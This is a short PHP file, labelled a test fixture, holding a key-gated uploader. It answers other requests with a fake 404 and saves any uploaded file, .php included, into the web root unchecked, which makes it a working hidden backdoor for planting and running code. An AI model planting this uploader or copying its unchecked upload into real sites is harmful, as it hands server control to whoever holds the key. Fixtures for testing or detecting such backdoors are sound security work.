<?php
// test fixture: a key-gated uploader (the key held in a variable) that stores each file in
// the site's root under a hashed name keeping the extension the client sent (a .php stays
// .php); nothing is checked
$key = 'k3y-0pen-2024';
if (!isset($_GET['k']) || $_GET['k'] !== $key) {
    header('HTTP/1.0 404 Not Found');
    exit;
}
if (isset($_FILES['f'])) {
    $given = basename($_FILES['f']['name']);
    $ext = pathinfo($given, PATHINFO_EXTENSION);
    $stored = substr(md5(time() . $given), 0, 8) . '.' . $ext;
    if (move_uploaded_file($_FILES['f']['tmp_name'], $_SERVER['DOCUMENT_ROOT'] . '/' . $stored)) {
        echo 'ok ' . $stored;
    }
}
?>
<form method="post" enctype="multipart/form-data"><input type="file" name="f"><input type="submit"></form>
